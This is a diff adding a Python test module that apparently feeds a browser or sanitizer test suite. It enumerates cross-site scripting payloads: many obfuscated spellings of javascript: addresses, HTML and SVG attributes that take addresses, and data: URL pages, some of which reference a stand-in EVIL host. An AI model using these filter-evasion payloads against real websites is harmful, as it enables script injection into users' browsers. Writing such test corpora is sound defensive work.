@@ -1,0 +1,195 @@
+"""``javascript:`` and ``data:`` addresses, in every attribute and every spelling."""
+
+import base64
+from typing import Final
+
+from tests.browser.attack import EVIL, HIT, attacks
+
+_JS: Final = f"javascript:{HIT}"
+
+
+def _entities(text: str, form: str) -> str:
+    return "".join(form.format(ord(character)) for character in text)
+
+
+# What a browser reads as javascript: or an old one did, as the value of <a href="…">.
+_SPELLINGS: Final = {
+    "plain": _JS,
+    "upper case": f"JAVASCRIPT:{HIT}",
+    "mixed case": f"jAvAsCrIpT:{HIT}",
+    "a number": "javascript:1234",
+    "a string": "javascript:'<img src=x>'",
+    "after a comment": f"javascript://evil.example/%0a{HIT}",
+    "looks like a host": f"javascript://www.example.org/?%0A{HIT}",
+    "after a label": f"javascript:x:y:{HIT}",
+    "twice": f"javascript:javascript:{HIT}",
+    "percent-encoded script": "javascript:window%2e__hit%281%29",
+    "tab inside": f"java\tscript:{HIT}",
+    "line feed inside": f"java\nscript:{HIT}",
+    "carriage return inside": f"java\rscript:{HIT}",
+    "tab before the colon": f"javascript\t:{HIT}",
+    "tabs everywhere": "\t".join(_JS),
+    "tab entity": f"java&Tab;script:{HIT}",
+    "new line entity": f"java&NewLine;script:{HIT}",
+    "decimal tab": f"java&#9;script:{HIT}",
+    "hexadecimal line feed": f"java&#x0A;script:{HIT}",
+    "decimal return, no semicolon": f"java&#13script:{HIT}",
+    "spaces in front": f"  \n\t {_JS}",
+    "controls in front": f"\x01\x02\x1f{_JS}",
+    "control entity in front": f"&#1;{_JS}",
+    "last control in front": f"&#x1F;{_JS}",
+    "vertical tab in front": f"\x0b{_JS}",
+    "form feed in front": f"&#12;{_JS}",
+    "nul in front": f"\x00{_JS}",
+    "nul inside": f"java\x00script:{HIT}",
+    "nul entity inside": f"java&#0;script:{HIT}",
+    "colon entity": f"javascript&colon;{HIT}",
+    "decimal colon": f"javascript&#58;{HIT}",
+    "decimal colon, no semicolon": f"javascript&#58{HIT}",
+    "decimal colon, padded": f"javascript&#000000058;{HIT}",
+    "hexadecimal colon": f"javascript&#x3a;{HIT}",
+    "hexadecimal colon, padded": f"javascript&#X00000003A;{HIT}",
+    "first letter an entity": f"&#106;avascript:{HIT}",
+    "all decimal": _entities(_JS, "&#{};"),
+    "all decimal, no semicolons": _entities(_JS, "&#{:07}"),
+    "all hexadecimal": _entities(_JS, "&#x{:x};"),
+    "all hexadecimal, no semicolons": _entities(_JS, "&#X{:06X}"),
+    "tab and new line entities at once": f"&Tab;j&NewLine;avascript&colon;&Tab;{HIT}",
+    "named parentheses": "javascript:window&period;__hit&lpar;1&rpar;",
+    "quotes that do not end it": f"javascript:&quot;&quot;;{HIT};'&#39;'",
+    "encoded once too often": f"&amp;#106;avascript:{HIT}",
+    "percent-encoded scheme": f"%6aavascript:{HIT}",
+    "percent-encoded colon": f"javascript%3a{HIT}",
+    "no-break space in front": f"\u00a0{_JS}",
+    "byte order mark in front": f"\ufeff{_JS}",
+    "soft hyphen inside": f"java\u00adscript:{HIT}",
+    "zero-width space inside": f"java\u200bscript:{HIT}",
+    "full-width colon": f"javascript\uff1a{HIT}",
+    "long s": f"java\u017fcript:{HIT}",
+    "vbscript": "vbscript:window.__hit(1)",
+    "vbscript, split": "vb&#10;script:msgbox(1)",
+    "livescript": f"livescript:{HIT}",
+    "mocha": f"mocha:{HIT}",
+    "within view-source": f"view-source:{_JS}",
+    "within feed": f"feed:{_JS}",
+    "within jar": f"jar:{EVIL}/a.jar!/{_JS}",
+}
+
+# Every attribute whose value some browser has taken for an address.
+_ATTRIBUTES: Final = {
+    "a, new window": "<a target=_blank href={}>x</a>",
+    "a, named window": "<a target=w rel=opener href={}>x</a>",
+    "a, download": "<a download href={}>x</a>",
+    "area href": "<img src=i.png usemap=#m><map name=m><area href={}></map>",
+    "form action": "<form action={}><button>x</button></form>",
+    "form action, post": "<form method=post action={}><input type=submit></form>",
+    "button formaction": "<form><button formaction={}>x</button></form>",
+    "input formaction": "<form><input type=submit formaction={}></form>",
+    "input image formaction": "<form><input type=image src=i.png formaction={}></form>",
+    "iframe src": "<iframe src={}></iframe>",
+    "frame src": "<frameset><frame src={}></frameset>",
+    "embed src": "<embed src={}>",
+    "object data": "<object data={}></object>",
+    "object code base": "<object codebase={} classid=x></object>",
+    "object class id": "<object classid={}></object>",
+    "object parameter": "<object><param name=src value={}><param name=movie value={}></object>",
+    "applet code": "<applet code={} codebase={} archive={}></applet>",
+    "meta refresh": "<meta http-equiv=refresh content=0;url={}>",
+    "base href": "<base href={}//><a href=/../x>x</a>",
+    "link stylesheet": "<link rel=stylesheet href={}>",
+    "link import": "<link rel=import href={}>",
+    "script src": "<script src={}></script>",
+    "img src": "<img src={}>",
+    "img lowsrc": "<img lowsrc={}>",
+    "img dynsrc": "<img dynsrc={}>",
+    "img longdesc": "<img src=i.png longdesc={}>",
+    "img usemap": "<img src=i.png usemap={}>",
+    "img srcset": "<img srcset='{} 1x, {} 2x'>",
+    "input src": "<input type=image src={}>",
+    "audio src": "<audio src={} autoplay></audio>",
+    "video src": "<video src={} autoplay></video>",
+    "video poster": "<video poster={}></video>",
+    "source src": "<video autoplay><source src={}></video>",
+    "track src": "<video><track default src={}></video>",
+    "blockquote cite": "<blockquote cite={}>x</blockquote>",
+    "q cite": "<q cite={}>x</q>",
+    "del cite": "<del cite={}>x</del>",
+    "body background": "<body background={}>",
+    "table background": "<table background={}><tr><td background={}>x</table>",
+    "html manifest": "<html manifest={}>",
+    "head profile": "<head profile={}>",
+    "a ping": "<a href=#x ping={}>x</a>",
+    "isindex action": "<isindex action={} type=image>",
+    "portal src": "<portal src={}></portal>",
+    "bgsound src": "<bgsound src={}>",
+    "layer src": "<layer src={}></layer>",
+    "xml src": "<xml src={}></xml>",
+    "svg a href": "<svg><a href={}><text y=9>x</text></a></svg>",
+    "svg a xlink:href": "<svg><a xlink:href={}><text y=9>x</text></a></svg>",
+    "svg use": "<svg><use href={} /></svg>",
+    "svg image": "<svg><image xlink:href={} /></svg>",
+    "svg script": "<svg><script href={} /></svg>",
+    "math href": "<math href={}>x</math>",
+    "math xlink:href": "<math><mi xlink:href={}>x</mi></math>",
+    "math maction": "<math><maction actiontype='statusline#x' xlink:href={}>x</maction></math>",
+    "html a xlink:href": "<a xlink:href={}>x</a>",
+    "html a xml:base": "<a xml:base={} href=#x>x</a>",
+}
+
+_SVG: Final = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>"
+_XHTML: Final = f"<script xmlns='http://www.w3.org/1999/xhtml'>{HIT}</script>"
+_PAGE: Final = f"<script>{HIT}</script>"
+
+
+def _base64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+_DATA: Final = {
+    "a": f'<a href="data:text/html,{_PAGE}">x</a>',
+    "a, new window": f'<a target=_blank href="data:text/html,{_PAGE}">x</a>',
+    "a, base64": f"<a href=data:text/html;base64,{_base64(_PAGE)}>x</a>",
+    "a, svg": f'<a href="data:image/svg+xml,{_SVG}">x</a>',
+    "a, no type": f'<a href="data:,{_PAGE}">x</a>',
+    "a, upper case": f'<a href="DATA:TEXT/HTML,{_PAGE}">x</a>',
+    "a, split": f'<a href="da\tta:text/html,{_PAGE}">x</a>',
+    "a, entity colon": f'<a href="data&colon;text/html,{_PAGE}">x</a>',
+    "a, control in front": f'<a href="&#2;data:text/html,{_PAGE}">x</a>',
+    "iframe": f'<iframe src="data:text/html,{_PAGE}"></iframe>',
+    "iframe, base64": f"<iframe src=data:text/html;base64,{_base64(_PAGE)}></iframe>",
+    "iframe, svg": f'<iframe src="data:image/svg+xml,{_SVG}"></iframe>',
+    "iframe, xhtml": f'<iframe src="data:application/xhtml+xml,{_XHTML}"></iframe>',
+    "iframe, xml": f'<iframe src="data:text/xml,{_XHTML}"></iframe>',
+    "iframe, charset": f'<iframe src="data:text/html;charset=utf-7,{_PAGE}"></iframe>',
+    "object": f'<object data="data:text/html,{_PAGE}"></object>',
+    "object, svg": f'<object type=image/svg+xml data="data:image/svg+xml,{_SVG}"></object>',
+    "embed": f'<embed src="data:text/html,{_PAGE}">',
+    "embed, svg base64": f"<embed src=data:image/svg+xml;base64,{_base64(_SVG)}>",
+    "script": f"<script src=data:text/javascript,{HIT}></script>",
+    "script, base64": f"<script src=data:;base64,{_base64(HIT)}></script>",
+    "module": f"<script type=module src=data:text/javascript,{HIT}></script>",
+    "svg script": f"<svg><script xlink:href=data:text/javascript,{HIT} /></svg>",
+    "stylesheet": f"<link rel=stylesheet href=data:text/css,@import'{EVIL}/s.css'>",
+    "meta refresh": f'<meta http-equiv=refresh content="0;url=data:text/html,{_PAGE}">',
+    "form action": f'<form action="data:text/html,{_PAGE}"><button>x</button></form>',
+    "img, svg": f'<img src="data:image/svg+xml,{_SVG}">',
+    "img srcset, svg": f"<img srcset='data:image/svg+xml;base64,{_base64(_SVG)} 1x'>",
+    "input image, svg": f'<input type=image src="data:image/svg+xml,{_SVG}">',
+    "video poster, svg": f'<video poster="data:image/svg+xml,{_SVG}"></video>',
+    "video": "<video autoplay src=data:video/mp4;base64,AAAA></video>",
+    "track": "<video><track default src=data:text/vtt,WEBVTT></video>",
+    "svg use": f'<svg><use href="data:image/svg+xml,{_SVG}#x" /></svg>',
+    "portal": f'<portal src="data:text/html,{_PAGE}"></portal>',
+}
+
+ATTACKS: Final = (
+    *attacks(
+        "javascript address",
+        {name: f'<a href="{address}">x</a>' for name, address in _SPELLINGS.items()},
+    ),
+    *attacks(
+        "javascript attribute",
+        {name: html.replace("{}", _JS) for name, html in _ATTRIBUTES.items()},
+    ),
+    *attacks("data address", _DATA),
+)
